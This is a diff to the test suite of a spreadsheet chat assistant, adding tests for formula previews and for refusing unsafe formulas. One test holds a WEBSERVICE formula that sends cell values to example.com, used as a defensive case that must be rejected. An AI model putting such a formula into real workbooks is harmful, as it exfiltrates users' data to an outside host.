@@ -12,6 +12,7 @@ from chatsheet.chat.tools import proposing, toolbox
 from chatsheet.context import budget
 from chatsheet.core import loose
 from tests.chat.proposed import Jobs, edit_of, talking
+from tests.sheets import formula_sheets
 
 pytestmark = pytest.mark.anyio
 
@@ -65,7 +66,7 @@ REFUSED: list[tuple[dict[str, JsonValue], str]] = [
     ({"op": "fill", "column": "price", "where": "item = 'Penn'", "value": 1}, "item has 'pen'"),
     ({"op": "delete_rows", "where": "count > 1000"}, "no row of prices matches count > 1000"),
     ({"op": "fill", "column": "price", "where": "item = 'pen'", "value": 1.5}, "hold that already"),
-    ({"op": "fill", "column": "price"}, "lacks value or expression"),
+    ({"op": "fill", "column": "price"}, "lacks value, expression or formula"),
     ({"op": "set", "column": "price", "value": 1}, "lacks rows"),
     ({"op": "set", "column": "price", "rows": [900], "value": 1}, "900"),
     ({"op": "set", "column": "price", "rows": [2], "value": "dear"}, "no decimal"),
@@ -211,3 +212,24 @@ def test_a_small_model_is_not_offered_proposals() -> None:
 def test_the_proposing_tool_costs_few_tokens() -> None:
     (schema,) = toolbox.Toolbox(proposing.offered(has_ai_columns=False)).schemas()
     assert budget.count(loose.dumps(schema)) < 450
+
+
+async def test_formulas_that_move_are_in_the_card_and_told_to_the_model(tmp_path: Path) -> None:
+    book = formula_sheets.write(tmp_path / "orders.xlsx")
+    async with talking(tmp_path, content=book.read_bytes(), name="orders.xlsx") as talk:
+        answered = await talk.propose({"op": "set", "table": "orders", "column": "price", "rows": [2], "value": 10})
+    formulas = edit_of(answered).preview.formulas
+    assert "Orders!D2" in {f"{one.tab}!{one.cell}" for one in formulas.recalculated}
+    told = loose.obj(loose.obj(loose.parse(answered.content))["formulas"])
+    assert told["recalculated"] == formulas.counts.recalculated
+
+
+async def test_a_formula_can_be_proposed_and_one_that_reaches_out_cannot(tmp_path: Path) -> None:
+    book = formula_sheets.write(tmp_path / "orders.xlsx").read_bytes()
+    add: dict[str, JsonValue] = {"op": "add_column", "table": "orders", "label": "Twice", "formula": "=[@Price]*2"}
+    async with talking(tmp_path, content=book, name="orders.xlsx") as talk:
+        kept = edit_of(await talk.propose(add))
+        refused = await talk.propose({**add, "formula": '=WEBSERVICE("https://example.com/"&[@Price])'})
+    assert kept.preview.changes[0].cells > 0
+    assert refused.is_error
+    assert refused.proposal is None
